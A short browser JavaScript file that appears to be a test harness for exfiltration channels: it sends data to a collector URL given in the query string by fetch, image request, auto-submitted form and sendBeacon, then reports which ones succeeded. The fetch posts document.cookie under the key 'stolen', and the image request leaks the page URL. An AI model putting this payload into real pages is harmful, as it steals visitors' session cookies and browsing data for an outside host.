// Fires a fetch, an <img>, a form post and a sendBeacon at the bin given as ?bin=URL, and says when each went.
'use strict';

(() => {
  const bin = new URLSearchParams(location.search).get('bin');
  const mark = (id, text) => {
    const node = document.getElementById(id);
    node.textContent = text;
    node.dataset.status = text;
  };
  if (!bin || !/^https?:\/\//.test(bin)) {
    document.getElementById('done').textContent =
      'Give the bin: ?bin=http://127.0.0.1:58080/bin/ID';
    return;
  }
  document.getElementById('bin').textContent = bin;

  fetch(`${bin}/fetch`, {
    method: 'POST',
    mode: 'cors',
    headers: { 'Content-Type': 'application/json' },
    body: JSON.stringify({ stolen: document.cookie || 'no cookie here', from: location.origin }),
  }).then(
    (res) => mark('fetch', `sent (${res.status})`),
    (err) => mark('fetch', `failed: ${err}`),
  );

  const img = new Image();
  img.onload = img.onerror = () => mark('img', 'sent');
  img.src = `${bin}/img?leak=${encodeURIComponent(location.href)}`;

  const form = document.getElementById('post');
  form.action = `${bin}/form`;
  form.submit();
  mark('form', 'sent');

  const queued = navigator.sendBeacon(
    `${bin}/beacon`,
    new Blob(['beacon body'], { type: 'text/plain' }),
  );
  mark('beacon', queued ? 'sent' : 'refused');
  document.getElementById('done').textContent = 'done';
  document.getElementById('done').dataset.status = 'done';
})();
